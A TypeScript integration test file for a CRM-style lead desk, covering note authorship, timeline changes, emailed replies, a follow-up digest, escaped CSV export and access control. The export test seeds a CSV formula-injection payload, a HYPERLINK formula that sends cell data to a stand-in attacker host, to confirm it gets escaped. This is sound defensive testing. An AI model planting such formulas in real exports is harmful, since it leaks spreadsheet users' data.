// The staff workspace's lead activity (docs/decisions/lead-desk.md, "Activity on each lead") against the real server, database (SQLite, and PostgreSQL
// with TEST_DB=postgres) and SMTP sink: notes by two authors that are never overwritten, status, assignee and
// follow-up changes on the timeline, replies from the admin with saved templates, the daily follow-up e-mail, the
// inbox's CSV export of its filter, and that members and anonymous visitors reach none of it.
import { parse } from 'csv-parse/sync'
import { describe, expect, inject, it } from 'vitest'

import { AGENCY_UTC_OFFSET_MS } from '@/lib/agencyTime'

import { bulkContactMessages, csvDataRows } from '../fixtures/bulk-leads'
import { talentApplication } from '../fixtures/resumes'
import { baseUrl, eventually, newEditor, rawSql, staffHeaders, staffRequest } from './helpers'
import { memberCookie, postJson } from './leads-helpers'
import { mailsTo, waitForMail } from './mail'

const uid = () => Math.random().toString(36).slice(2, 10)

type Entry = { id: number; type: string; authorName: string | null; subject: string | null; text: string; editedAt: string | null }

async function contactLead(tag: string, fullName = `Meera ${tag}`) {
  const created = await postJson('/api/contact', {
    fullName,
    emailAddress: `meera-${tag}@${tag}.example.in`,
    inquiryType: 'Business Inquiry',
    message: `Please call me about ${tag}.`,
  })
  expect(created.status).toBe(201)
  return Number(created.body.id)
}

async function timeline(leadId: number): Promise<Entry[]> {
  const { docs } = await staffRequest<{ docs: Entry[] }>(
    'GET',
    `/lead-activity?where[leadCollection][equals]=contact-messages&where[leadId][equals]=${leadId}&sort=-createdAt&limit=100`,
  )
  return docs
}

async function asAdmin(method: string, path: string, body?: unknown) {
  const response = await fetch(`${baseUrl()}/cms-api${path}`, {
    method,
    headers: { ...(await staffHeaders()), origin: baseUrl() },
    body: body === undefined ? undefined : JSON.stringify(body),
  })
  return {
    status: response.status,
    body: (await response.json().catch(() => ({}))) as Record<string, unknown> & { errors?: { message: string }[] },
  }
}

describe('notes and changes on the timeline', () => {
  it('keeps every note with its author; only the author corrects it, within 10 minutes; none is deleted', async () => {
    const tag = uid()
    const leadId = await contactLead(tag)
    const editor = await newEditor('notes')

    const first = await asAdmin('POST', '/lead-activity', { leadCollection: 'contact-messages', leadId, text: 'Called, no answer.' })
    expect(first.status).toBe(201)
    const second = await editor.call<{ doc: Entry }>('POST', '/lead-activity', {
      leadCollection: 'contact-messages',
      leadId,
      text: 'Spoke to Meera: wants two testers.',
      // Whatever the client claims, a note is a note by the person logged in.
      type: 'reply',
      authorName: 'Somebody else',
    })
    expect(second.status).toBe(201)

    const notes = (await timeline(leadId)).filter((entry) => entry.type === 'note')
    expect(notes.map((note) => [note.text, note.authorName])).toEqual([
      ['Spoke to Meera: wants two testers.', editor.name],
      ['Called, no answer.', 'Administrator'],
    ])

    // The editor cannot change the admin's note; the admin corrects their own.
    const firstId = Number((first.body.doc as Entry).id)
    expect([403, 404]).toContain((await editor.call('PATCH', `/lead-activity/${firstId}`, { text: 'Overwritten' })).status)
    const corrected = await asAdmin('PATCH', `/lead-activity/${firstId}`, { text: 'Called twice, no answer.' })
    expect(corrected.status).toBe(200)
    expect((corrected.body.doc as Entry).editedAt).toBeTruthy()

    // Eleven minutes later the note stands as written, and no note is ever deleted.
    const elevenMinutesAgo = new Date(Date.now() - 11 * 60_000).toISOString()
    await rawSql('UPDATE lead_activity SET created_at = ? WHERE id = ?', [elevenMinutesAgo, firstId])
    expect([403, 404]).toContain((await asAdmin('PATCH', `/lead-activity/${firstId}`, { text: 'Too late' })).status)
    expect((await asAdmin('DELETE', `/lead-activity/${firstId}`)).status).toBe(403)
    const after = (await timeline(leadId)).filter((entry) => entry.type === 'note').map((note) => note.text)
    expect(after).toEqual(['Spoke to Meera: wants two testers.', 'Called twice, no answer.'])

    // A note needs text and a lead that exists.
    const empty = await asAdmin('POST', '/lead-activity', { leadCollection: 'contact-messages', leadId, text: '  ' })
    expect(empty.status).toBe(400)
    expect(empty.body.errors?.[0].message).toBe('Write the note first.')
    const nowhere = await asAdmin('POST', '/lead-activity', { leadCollection: 'contact-messages', leadId: 99_999_999, text: 'Hello' })
    expect(nowhere.status).toBe(400)
    expect(nowhere.body.errors?.[0].message).toBe('This lead no longer exists.')
  })

  it('records status, assignee and follow-up changes with who made them, and the e-mails the system sent', async () => {
    const tag = uid()
    const leadId = await contactLead(tag)
    const editor = await newEditor('changes')
    const update = (data: Record<string, unknown>) => editor.call('PATCH', `/contact-messages/${leadId}`, data)
    expect((await update({ status: 'in-progress', assignee: editor.id })).status).toBe(200)
    expect((await update({ followUpOn: '2026-12-01T06:30:00.000Z' })).status).toBe(200)
    expect((await update({ followUpOn: null })).status).toBe(200)

    await eventually(async () => {
      const entries = await timeline(leadId)
      expect(entries.filter((entry) => entry.type === 'mail').map((entry) => entry.text)).toEqual(
        expect.arrayContaining(['Sent to staff@test.local', `Sent to meera-${tag}@${tag}.example.in`]),
      )
    }, 10_000)
    const changes = (await timeline(leadId)).filter((entry) => entry.type !== 'mail' && entry.type !== 'note')
    // Newest first; the status and the assignee changed in the same save, so their order between them is open.
    const described = changes.map((entry) => [entry.type, entry.text, entry.authorName])
    expect(described.slice(0, 2)).toEqual([
      ['follow-up-done', 'Follow-up of 1 Dec 2026 done', editor.name],
      ['follow-up-set', 'Follow-up set for 1 Dec 2026', editor.name],
    ])
    expect(described.slice(2).sort()).toEqual([
      ['assignee', `Assigned to ${editor.name}`, editor.name],
      ['status', 'Status: New → In progress', editor.name],
    ])

    // The mail state and the first reply are the server's: a stale form cannot write them back.
    const stale = await editor.call<{ doc: Record<string, unknown> }>('PATCH', `/contact-messages/${leadId}`, {
      notifyState: 'failed',
      firstReplyAt: '2020-01-01T00:00:00.000Z',
    })
    expect(stale.body.doc.notifyState).toBe('sent')
    expect(stale.body.doc.firstReplyAt ?? null).toBeNull()
  })
})

describe('replies from the admin', () => {
  it('sends the reply from the site under the staff member’s name, records it and marks the first reply once', async () => {
    const tag = uid()
    const leadId = await contactLead(tag)
    const templates = await staffRequest<{ docs: { name: string; body: string }[] }>('GET', '/reply-templates?sort=name&limit=50')
    expect(templates.docs.map((template) => template.name)).toEqual(
      expect.arrayContaining(['Interview invitation', 'Need a little more detail', 'Thanks, we will call you']),
    )
    expect(templates.docs.find((template) => template.name === 'Thanks, we will call you')?.body).toContain('Hello {name},')

    const text = 'Hello Meera,\n\nThank you. We will call you <b>tomorrow</b> at 11.\nRegards'
    const sent = await asAdmin('POST', '/lead-activity/reply', {
      leadCollection: 'contact-messages',
      leadId,
      subject: 'Your enquiry',
      text,
    })
    expect(sent.status).toBe(201)
    expect(sent.body.message).toBe(`Your reply to meera-${tag}@${tag}.example.in is on its way.`)

    const mail = await waitForMail(`meera-${tag}@${tag}.example.in`, { count: 2 })
    const reply = (await mailsTo(`meera-${tag}@${tag}.example.in`)).find((received) => received.subject.startsWith('Your enquiry')) ?? mail
    // The tag that brings the answer back to this lead (tests/integration/inbound-mail.test.ts) follows the subject.
    expect(reply.subject).toMatch(/^Your enquiry \[ref:c\d+x[0-9a-f]{20}\]$/)
    expect(reply.text).toContain('We will call you <b>tomorrow</b> at 11.')
    expect(reply.text).toContain('Administrator')
    // Plain text in the HTML part too: the tags are shown as typed, never rendered.
    expect(reply.html).toContain('&lt;b&gt;tomorrow&lt;/b&gt;')
    expect(reply.html).not.toContain('<b>tomorrow</b>')

    const lead = await staffRequest<{ firstReplyAt: string | null }>('GET', `/contact-messages/${leadId}`)
    expect(lead.firstReplyAt).toBeTruthy()
    const entries = await timeline(leadId)
    const recorded = entries.find((entry) => entry.type === 'reply')
    expect(recorded?.subject).toBe('Your enquiry')
    expect(recorded?.authorName).toBe('Administrator')
    expect(recorded?.text).toContain('We will call you <b>tomorrow</b> at 11.')

    // A second reply is recorded too, but the first reply's time stays.
    expect(
      (await asAdmin('POST', '/lead-activity/reply', { leadCollection: 'contact-messages', leadId, subject: 'Again', text: 'One more.' }))
        .status,
    ).toBe(201)
    const again = await staffRequest<{ firstReplyAt: string | null }>('GET', `/contact-messages/${leadId}`)
    expect(again.firstReplyAt).toBe(lead.firstReplyAt)
    expect((await timeline(leadId)).filter((entry) => entry.type === 'reply')).toHaveLength(2)
  })

  it('answers a talent application at the member’s verified address, never at the typed e-mail', async () => {
    const tag = uid()
    const verified = `member-${tag}@${tag}.example.in`
    const typed = `someone-else-${tag}@${tag}.example.in`
    const member = await memberCookie(verified)
    const applied = await fetch(`${baseUrl()}/api/JoinTalent`, {
      method: 'POST',
      headers: {
        cookie: member.cookie,
        'x-forwarded-for': `10.77.${Math.floor(Math.random() * 250)}.${Math.floor(Math.random() * 250) + 1}`,
      },
      body: talentApplication(typed),
    })
    expect(applied.status).toBe(201)
    const [application] = (
      await staffRequest<{ docs: { id: number }[] }>(
        'GET',
        `/talent-applications?where[email][equals]=${encodeURIComponent(typed)}&depth=0`,
      )
    ).docs
    // Mail 1 was the signup code, mail 2 the acknowledgement (to the verified address too).
    await waitForMail(verified, { count: 2 })
    const sent = await asAdmin('POST', '/lead-activity/reply', {
      leadCollection: 'talent-applications',
      leadId: application.id,
      subject: `Interview ${tag}`,
      text: 'Hello Meera,\n\nCan you come in on Monday?',
    })
    expect(sent.status).toBe(201)
    expect(sent.body.message).toBe(`Your reply to ${verified} is on its way.`)
    await eventually(
      async () => expect((await mailsTo(verified)).some((mail) => mail.subject.startsWith(`Interview ${tag} [ref:`))).toBe(true),
      5000,
    )
    // The typed address gets nothing: not the reply, not anything else.
    await new Promise((resolve) => setTimeout(resolve, 500))
    expect(await mailsTo(typed)).toEqual([])
  })

  it('refuses an empty reply, a missing lead and a foreign page with a clear message', async () => {
    const leadId = await contactLead(uid())
    const empty = await asAdmin('POST', '/lead-activity/reply', { leadCollection: 'contact-messages', leadId, subject: 'Hi', text: ' ' })
    expect(empty.status).toBe(400)
    expect(empty.body.errors?.[0].message).toBe('Write the reply first.')
    const missing = await asAdmin('POST', '/lead-activity/reply', {
      leadCollection: 'contact-messages',
      leadId: 99_999_999,
      subject: 'Hi',
      text: 'Hello',
    })
    expect(missing.status).toBe(404)
    expect(missing.body.errors?.[0].message).toBe('This lead no longer exists.')
    const odd = await asAdmin('POST', '/lead-activity/reply', { leadCollection: 'users', leadId: 1, subject: 'Hi', text: 'Hello' })
    expect(odd.status).toBe(400)
    const foreign = await fetch(`${baseUrl()}/cms-api/lead-activity/reply`, {
      method: 'POST',
      headers: { ...(await staffHeaders()), origin: 'https://evil.example' },
      body: JSON.stringify({ leadCollection: 'contact-messages', leadId, subject: 'Hi', text: 'Hello' }),
    })
    expect(foreign.status).toBe(403)
    const broken = await fetch(`${baseUrl()}/cms-api/lead-activity/reply`, {
      method: 'POST',
      headers: await staffHeaders(),
      body: '{not json',
    })
    expect(broken.status).toBe(400)
  })
})

describe('the daily follow-up e-mail', () => {
  it('lists each staff member’s due and overdue follow-ups once a day', async () => {
    const tag = uid()
    const editor = await newEditor('digest')
    const overdueLead = await contactLead(tag, `Overdue ${tag}`)
    const todayLead = await contactLead(tag, `Today ${tag}`)
    const laterLead = await contactLead(tag, `Later ${tag}`)
    // Days in India (UTC+5:30), as the server counts them: from 18:30 UTC the Indian date is already tomorrow's.
    const day = (offsetDays: number) => new Date(Date.now() + AGENCY_UTC_OFFSET_MS + offsetDays * 86_400_000).toISOString().slice(0, 10)
    // Noon in India: the day the date picker means, whatever the server's clock.
    const dueOn = (offsetDays: number) => `${day(offsetDays)}T06:30:00.000Z`
    await staffRequest('PATCH', `/contact-messages/${overdueLead}`, { assignee: editor.id, followUpOn: dueOn(-2) })
    await staffRequest('PATCH', `/contact-messages/${todayLead}`, { assignee: editor.id, followUpOn: dueOn(0) })
    await staffRequest('PATCH', `/contact-messages/${laterLead}`, { assignee: editor.id, followUpOn: dueOn(3) })

    const run = await asAdmin('POST', '/lead-activity/follow-up-digest')
    expect(run.status).toBe(200)
    const mail = await waitForMail(editor.email)
    expect(mail.subject).toBe('Follow-ups for today: 1 due, 1 overdue')
    expect(mail.text).toContain(`Overdue ${tag}`)
    expect(mail.text).toContain(`Today ${tag}`)
    expect(mail.text).not.toContain(`Later ${tag}`)
    expect(mail.text).toContain(`/admin/collections/contact-messages/${overdueLead}`)

    // Its link opens the list it describes: the editor's open leads whose follow-up is due today or overdue.
    const link = /https?:\/\/\S+(\/admin\/inbox\?\S+)/.exec(mail.text)?.[1] ?? ''
    expect(link).toBe('/admin/inbox?assignee=mine&followUp=due')
    const login = await fetch(`${baseUrl()}/cms-api/users/login`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ email: editor.email, password: 'granite-orchard-whistle' }),
    })
    const { token } = (await login.json()) as { token: string }
    const listed = await (await fetch(`${baseUrl()}${link}`, { headers: { authorization: `JWT ${token}` } })).text()
    const names = [...listed.matchAll(/<tr[^>]*data-testid="inbox-row"[^>]*>[\s\S]*?<a [^>]*>([^<]*)<\/a>/g)].map((match) => match[1])
    expect(names.sort()).toEqual([`Overdue ${tag}`, `Today ${tag}`])

    // Asked again the same day: nobody gets it twice.
    const again = await asAdmin('POST', '/lead-activity/follow-up-digest')
    expect(again.status).toBe(200)
    await new Promise((resolve) => setTimeout(resolve, 1500))
    expect(await mailsTo(editor.email)).toHaveLength(1)
  })
})

describe('the inbox export', () => {
  it('downloads every lead of the current filter, message text included, with formulas escaped', async () => {
    const tag = uid()
    const postgres = inject('databaseUrl').startsWith('postgres')
    const bulk = bulkContactMessages(tag, 1000, { postgres })
    await rawSql(bulk.sql, bulk.params)
    await contactLead(tag, `=HYPERLINK("http://evil.example/?"&A2) ${tag}`)

    const response = await fetch(`${baseUrl()}/cms-api/inbox/export?q=${tag}&kind=contact`, { headers: await staffHeaders() })
    expect(response.status).toBe(200)
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8')
    expect(response.headers.get('content-disposition')).toMatch(/^attachment; filename="leads-\d{4}-\d{2}-\d{2}\.csv"$/)
    const csv = (await response.text()).replace(/^\ufeff/, '')
    const rows = parse(csv, { columns: true }) as Record<string, string>[]
    expect(rows).toHaveLength(1001)
    expect(csvDataRows(csv).length).toBeGreaterThanOrEqual(1001)
    expect(Object.keys(rows[0])).toEqual([
      'Kind',
      'Name',
      'E-mail',
      'Phone',
      'Location',
      'Company or role',
      'Category or role',
      'Enquiry type',
      'Stage',
      'Status',
      'Assignee',
      'Received (IST)',
      'First reply (IST)',
      'Follow up on',
      'Message',
      'Link',
    ])
    const typed = rows.find((row) => row.Name.includes('HYPERLINK'))
    expect(typed?.Name.startsWith(`'=HYPERLINK`)).toBe(true)
    expect(typed?.Message).toBe(`Please call me about ${tag}.`)
    expect(rows.find((row) => row['E-mail'] === `${tag}-500@example.in`)?.Message).toBe('Bulk message number 500')

    // The filter narrows the file like the list: these leads are all contact messages.
    const none = await fetch(`${baseUrl()}/cms-api/inbox/export?q=${tag}&kind=teamUp`, { headers: await staffHeaders() })
    expect(parse((await none.text()).replace(/^\ufeff/, ''), { columns: true })).toHaveLength(0)
  })
})

describe('access', () => {
  it('lets anonymous visitors and members reach none of it', async () => {
    const leadId = await contactLead(uid())
    const member = await memberCookie(`member-${uid()}@example.in`)
    const paths: [string, string, unknown?][] = [
      ['GET', '/cms-api/lead-activity'],
      ['POST', '/cms-api/lead-activity', { leadCollection: 'contact-messages', leadId, text: 'x' }],
      ['POST', '/cms-api/lead-activity/reply', { leadCollection: 'contact-messages', leadId, subject: 'x', text: 'x' }],
      ['POST', '/cms-api/lead-activity/follow-up-digest'],
      ['GET', '/cms-api/reply-templates'],
      ['POST', '/cms-api/reply-templates', { name: 'x', subject: 'x', body: 'x' }],
      ['GET', '/cms-api/follow-up-digests'],
      ['GET', '/cms-api/inbox/export'],
    ]
    for (const cookie of [undefined, member.cookie]) {
      for (const [method, path, body] of paths) {
        const response = await fetch(`${baseUrl()}${path}`, {
          method,
          headers: { 'content-type': 'application/json', origin: baseUrl(), ...(cookie ? { cookie } : {}) },
          body: body === undefined ? undefined : JSON.stringify(body),
        })
        expect([401, 403], `${method} ${path} ${cookie ? 'as a member' : 'anonymous'}`).toContain(response.status)
        expect(await response.text()).not.toContain('Please call me')
      }
    }
  })
})
